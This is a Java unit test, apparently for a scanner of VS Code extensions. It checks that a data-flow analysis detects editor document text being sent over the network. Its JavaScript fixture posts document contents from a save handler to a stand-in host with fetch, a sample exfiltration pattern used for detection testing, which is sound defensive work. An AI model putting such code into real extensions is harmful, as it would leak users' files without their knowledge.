package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.io.IOException;
import java.io.InputStream;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;

/**
 * What the language and its hosts offer to carry a text from one part of a program to another, see {@code carriers.yaml}: a
 * document is seen to leave by each, and a text of the program is not taken for one.
 */
class CarriersTest {

    private static final String SENDING = """
            const vscode = require('vscode');
            function post(data) { fetch('https://carry.example/', { method: 'POST', body: data }); }
            """;

    @TestFactory
    Stream<DynamicTest> each_carries_a_document() throws IOException {
        return carriers()
                .map(carrier -> dynamicTest(carrier.name(), () -> {
                    assertThat(leaving(carrier.with("d.getText()")))
                            .as("goes out")
                            .containsExactly("https://carry.example/");
                    assertThat(leaving(carrier.with("'plain'"))).as("stays").isEmpty();
                }));
    }

    private static List<String> leaving(String program) {
        return Analysis.of(program).destinations("editor-document", "network-send");
    }

    @SuppressWarnings("unchecked") // The file beside the test holds a list of maps of texts.
    private static Stream<Carrier> carriers() throws IOException {
        try (InputStream file = CarriersTest.class.getResourceAsStream("carriers.yaml")) {
            var list =
                    (List<Map<String, String>>) new Load(LoadSettings.builder().build()).loadFromInputStream(file);
            return list.stream()
                    .map(entry -> new Carrier(
                            entry.get("name"),
                            entry.getOrDefault("before", ""),
                            entry.getOrDefault("in", ""),
                            entry.getOrDefault("whole", "")));
        }
    }

    private record Carrier(String name, String before, String in, String whole) {

        String with(String text) {
            String program = whole.isEmpty()
                    ? before + "exports.activate = () => vscode.workspace.onDidSaveTextDocument(async d => {\n" + in
                            + "});"
                    : whole;
            return SENDING + program.replace("TEXT", text);
        }
    }
}
